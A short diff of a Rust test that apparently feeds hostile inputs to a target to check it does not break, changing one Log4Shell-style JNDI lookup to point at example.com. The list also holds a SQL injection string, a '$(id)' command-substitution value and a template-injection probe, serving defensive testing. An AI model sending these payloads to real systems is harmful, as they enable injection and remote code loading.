@@ -107,7 +107,7 @@ pub fn nothing_sent_breaks_the_function(target: &Target) {
         "/marker%",
         "\0",
         "%bf%27 or 1=1",
-        "${jndi:ldap://127.0.0.1/a}",
+        "${jndi:ldap://example.com/a}",
         "$(id)",
         "{{7*7}}",
         CANARY,
